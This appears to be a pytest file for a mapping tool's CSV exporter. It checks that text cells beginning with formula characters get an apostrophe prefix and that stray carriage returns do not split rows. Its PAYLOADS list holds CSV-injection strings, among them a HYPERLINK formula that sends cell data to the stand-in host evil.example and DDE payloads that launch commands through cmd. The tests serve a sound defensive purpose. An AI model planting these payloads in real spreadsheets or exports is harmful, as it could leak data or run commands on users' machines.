"""CSV exports cannot smuggle formulas into a spreadsheet (OWASP "CSV injection").

Every file here is written by the real exporter (:func:`gridmap.io.export_layer` from
an SQLite store, or :func:`gridmap.io.write_frame`) and read back from disk. A text cell
starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return must get a leading
``'``; a carriage return inside a cell must not split the row (Excel starts a new row
at a bare CR, and the text after it would land unprotected in a new first cell); numbers
in numeric columns stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterator
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely

from gridmap.access import Session
from gridmap.io import export_layer, read_layer_file, write_frame
from gridmap.store import Store, open_store
from tests.store_fixtures import SCOPE, tiny_issues, tiny_units

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# (what an attacker types, why it matters)
PAYLOADS: list[tuple[str, str]] = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"点我")', "equals"),
    ("+cmd|' /C calc'!A0", "plus (DDE)"),
    ("-1+1", "minus: a number stored as text"),
    ("-5", "minus: a bare negative number as text"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "at"),
    ("\t=1+1", "tab"),
    ("\r=1+1", "carriage return"),
]


def _rows(path: Path) -> list[dict[str, str]]:
    """The file as a spreadsheet-neutral reader sees it (``newline=""`` keeps quoted CRs)."""
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _raw(path: Path) -> str:
    """The file's text with its line ends as written (``read_text`` would turn CRLF into LF)."""
    return path.read_bytes().decode("utf-8-sig")


def _unquoted_line_breaks(raw: str) -> list[int]:
    """Offsets of carriage returns outside quotes that are not part of a CRLF record end.

    Excel ends a row at a bare CR as at LF or CRLF, so such a CR would let the text
    after it start a new, unprotected first cell. (An LF outside quotes is always a
    record end: the writer quotes every cell that contains one.)
    """
    bad: list[int] = []
    in_quotes = False
    for i, ch in enumerate(raw):
        if ch == '"':
            in_quotes = not in_quotes
        elif not in_quotes and ch == "\r" and raw[i + 1:i + 2] != "\n":
            bad.append(i)
    return bad


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    s = open_store(f"sqlite:///{tmp_path / 'csv.db'}")
    try:
        yield s
    finally:
        s.close()


def _store_with_descriptions(store: Store, descriptions: list[str]) -> Store:
    issues = tiny_issues().iloc[[0] * len(descriptions)].reset_index(drop=True)
    issues["id"] = [f"i{n}" for n in range(len(descriptions))]
    issues["description"] = descriptions
    issues["reporter"] = descriptions
    with store.transaction("tester", SCOPE) as tx:
        tx.insert("units", tiny_units())
        tx.insert("issues", issues)
        tx.set_meta("plan_version", "1")
    return store


def _stations(names: list[str], funding: list[int | None]) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"id": [f"s{n}" for n in range(len(names))], "name": names,
         "station_type": "happiness", "opened": dt.date(2026, 1, 2), "funding_yuan": funding},
        geometry=[shapely.Point(120.405, 27.515)] * len(names), crs="EPSG:4326",
    )


@pytest.mark.parametrize(("payload", "why"), PAYLOADS, ids=[why for _, why in PAYLOADS])
def test_export_layer_neutralises_each_formula_start(store: Store, tmp_path: Path, payload: str,
                                                     why: str) -> None:
    _store_with_descriptions(store, [payload, "垃圾堆放"])
    n, path = export_layer(Session.system(store, SCOPE), "issues", tmp_path / "issues.csv", fmt="csv")
    assert n == 2
    rows = {r["id"]: r for r in _rows(path)}
    assert rows["i0"]["description"] == "'" + payload, why
    assert rows["i0"]["reporter"] == "'" + payload, why
    assert rows["i1"]["description"] == "垃圾堆放"  # plain text untouched
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), f"{column}={cell!r} would run as a formula"
    assert _unquoted_line_breaks(_raw(path)) == []


def test_a_carriage_return_inside_a_cell_does_not_split_the_row(store: Store, tmp_path: Path) -> None:
    sneaky = '正常描述\r=HYPERLINK("http://evil.example","点我")'
    _store_with_descriptions(store, [sneaky, "路灯损坏\n第二行"])
    _, path = export_layer(Session.system(store, SCOPE), "issues", tmp_path / "issues.csv", fmt="csv")
    raw = _raw(path)
    assert _unquoted_line_breaks(raw) == [], "a bare CR outside quotes starts a new row in Excel"
    assert '"' + sneaky.replace('"', '""') + '"' in raw  # the whole cell quoted
    rows = {r["id"]: r for r in _rows(path)}
    assert len(rows) == 2
    assert rows["i0"]["description"] == sneaky and rows["i1"]["description"] == "路灯损坏\n第二行"


def test_negative_numbers_in_numeric_columns_stay_numbers(tmp_path: Path) -> None:
    frame = _stations(["-1+1", "幸福小站", "-5"], [-100, 250, -3])
    path = write_frame(frame, tmp_path / "stations.csv", "csv", "stations")
    rows = _rows(path)
    assert [r["funding_yuan"] for r in rows] == ["-100", "250", "-3"]
    assert [r["name"] for r in rows] == ["'-1+1", "幸福小站", "'-5"]  # text that looks like a sum
    assert [r["lon"] for r in rows] == ["120.405"] * 3  # coordinates are numbers too
    table = pd.read_csv(path, encoding="utf-8-sig")
    assert pd.api.types.is_integer_dtype(table["funding_yuan"])
    assert list(table["funding_yuan"]) == [-100, 250, -3]


@pytest.mark.parametrize("dtype", ["object", "string", "category"])
def test_every_kind_of_text_column_is_neutralised(tmp_path: Path, dtype: str) -> None:
    frame = _stations(["=1+1", "@A1", "幸福小站"], [1, 2, 3])
    frame["name"] = frame["name"].astype(dtype)
    path = write_frame(frame, tmp_path / "stations.csv", "csv", "stations")
    assert [r["name"] for r in _rows(path)] == ["'=1+1", "'@A1", "幸福小站"]


def test_neutralised_text_comes_back_unchanged_on_import(store: Store, tmp_path: Path) -> None:
    payloads = [p for p, _ in PAYLOADS]
    _store_with_descriptions(store, payloads)
    _, path = export_layer(Session.system(store, SCOPE), "issues", tmp_path / "issues.csv", fmt="csv")
    back = read_layer_file("issues", path).frame.set_index("id")
    for n, payload in enumerate(payloads):
        # the importer strips surrounding blanks (tab, CR) from every cell, as before
        assert back.loc[f"i{n}", "description"] == payload.strip(), payload
